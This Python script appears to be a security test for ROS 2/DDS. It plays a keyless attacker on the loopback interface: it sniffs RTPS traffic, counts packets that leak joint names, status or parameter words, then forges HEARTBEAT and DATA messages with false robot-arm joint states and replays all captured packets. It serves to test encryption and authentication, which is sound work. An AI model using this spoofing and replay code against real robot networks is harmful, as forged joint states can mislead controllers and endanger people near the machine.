"""An attacker without a key on the network. It prints a line when it is ready and reads all packets until its input ends. Then it
pretends to be each participant that it has seen: it sends false joint states of the arm, and replays everything it has read.
Prints as JSON how many packets it read, and how many of them contained each of the given words."""
import json
import os
import re
import select
import socket
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "dds"))
import rostypes as ros

# A joint's name in joint states, a state in the status, a requested parameter, a type in discovery. (Names of topics are not secret:
# participants show their permissions when they meet.)
WORDS = ["joint1", "holding", "base_frame", "PoseStamped_"]
EVERY_PROTOCOL = 3
UDP = 17


def packets():
    """UDP payloads with their destination ports, until the input ends."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERY_PROTOCOL))
    wire.bind(("lo", 0))
    print("reading", flush=True)
    while True:
        ready, _, _ = select.select([wire, sys.stdin], [], [])
        if sys.stdin in ready:
            return
        frame = wire.recv(1 << 17)[14:]
        header = 4 * (frame[0] & 15)
        if frame[9] == UDP:
            yield struct.unpack("!H", frame[header + 2:header + 4])[0], frame[header + 8:]


def submessage(kind, body, flags=1):
    return struct.pack("<BBH", kind, flags, len(body)) + body


def forged(prefix, writer, payload, number):
    """An RTPS message of the given writer, which has nothing before sample `number`: HEARTBEAT and DATA for every reader."""
    sequence = struct.pack("<iI", 0, number)
    ids = bytes(4) + writer
    heartbeat = submessage(0x07, ids + sequence + sequence + struct.pack("<i", number))
    data = submessage(0x15, struct.pack("<HH", 0, 16) + ids + sequence + payload, flags=5)
    return b"RTPS\x02\x04\x01\x12" + prefix + heartbeat + data


bent = ros.JointState(ros.Header(), [f"joint{i}" for i in range(1, 7)], [0.1, 0.2, 0.3, 0.4, 0.5, 0.6], [0.0] * 6)
payload = bent.serialize(use_version_2=False)
payload += bytes(-len(payload) % 4)
seen = [(port, data) for port, data in packets() if data[:4] == b"RTPS"]
found = {word: sum(bool(re.search(word.encode(), data)) for _, data in seen) for word in WORDS}
prefixes, ports = {data[8:20] for _, data in seen}, {port for port, _ in seen}
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(1_000_000, 1_000_020):
    for port in ports:
        for prefix in prefixes:
            for entity in range(40):
                out.sendto(forged(prefix, bytes([0, 0, entity, 3]), payload, number), ("127.0.0.1", port))
for port, data in seen:
    out.sendto(data, ("127.0.0.1", port))
print(json.dumps({"packets": len(seen), "words": found}))
